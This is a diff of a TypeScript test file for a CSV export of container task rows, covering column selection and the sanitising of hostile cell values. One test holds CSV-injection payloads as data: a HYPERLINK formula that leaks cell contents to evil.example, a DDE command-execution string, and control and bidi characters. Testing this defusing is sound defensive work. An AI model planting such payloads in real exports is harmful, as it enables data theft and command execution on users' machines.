@@ -20,7 +20,8 @@ function parseCsv(text: string): string[][] {
 	expect(text.endsWith('\r\n')).toBe(true);
 	return text.slice(0, -2).split('\r\n').map((line) => {
 		const cells: string[] = [];
-		for (const match of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/gu)) {
+		// Every cell after a comma: a leading comma makes the first one like the others.
+		for (const match of `,${line}`.matchAll(/,("(?:[^"]|"")*"|[^,]*)/gu)) {
 			const raw = match[1] ?? '';
 			cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
 		}
@@ -91,3 +92,48 @@ describe('formatCsv', () => {
 		expect(record?.[column('containers')]).toBe('web dns');
 	});
 });
+
+describe('formatCsv with --columns', () => {
+	const nowMs = Date.UTC(2026, 0, 15, 12, 0, 0);
+
+	it('has the chosen columns, in their order, headed by their --columns names', () => {
+		const text = formatCsv([
+			makeTaskRow({taskId: 'aaa', privateIpv4: '10.0.1.17', eniId: 'eni-1', createdAt: '2026-01-15T11:58:00.000Z'}),
+			makeTaskRow({
+				taskId: 'bbb', launchType: 'EC2',
+				hostPorts: [{containerName: 'web', bindIp: '0.0.0.0', containerPort: 80, hostPort: 32768, protocol: 'tcp'}],
+			}),
+		], {fields: ['ip', 'task', 'eni', 'host-ports', 'age', 'created'], nowMs});
+		expect(parseCsv(text)).toEqual([
+			['private-ip', 'task', 'eni', 'host-ports', 'age', 'created'],
+			['10.0.1.17', 'aaa', 'eni-1', '', '2m', '2026-01-15T11:58:00.000Z'],
+			// A bridge-mode task has no ENI: the grid's ENI column shows its ports, CSV leaves it empty.
+			['', 'bbb', '', '80->32768/tcp', '', ''],
+		]);
+	});
+
+	it('quotes, defuses and cleans hostile values in every chosen column', () => {
+		const hostile = makeTaskRow({
+			taskId: 'aaa',
+			service: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+			taskDefinition: '+cmd|\' /C calc\'!A0',
+			stoppedReason: 'line1\r\nline2, "quoted"\u001B[31m\u009B\u202Eend',
+			availabilityZone: '@SUM(1+1)',
+			subnetId: '-2+3',
+		});
+		const text = formatCsv([hostile], {fields: ['task', 'service', 'rev', 'stopped-reason', 'az', 'subnet'], nowMs});
+		// eslint-disable-next-line no-control-regex -- looking for raw control characters is the point
+		expect(text.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u202E]/u);
+		expect(text.split('\r\n')).toHaveLength(3);
+		expect(parseCsv(text)[1]).toEqual([
+			'aaa',
+			'\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+			'\'+cmd|\' /C calc\'!A0',
+			'line1\uFFFD\uFFFDline2, "quoted"\uFFFD[31m\uFFFD\uFFFDend',
+			'\'@SUM(1+1)',
+			'\'-2+3',
+		]);
+		expect(text).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
+	});
+});
+
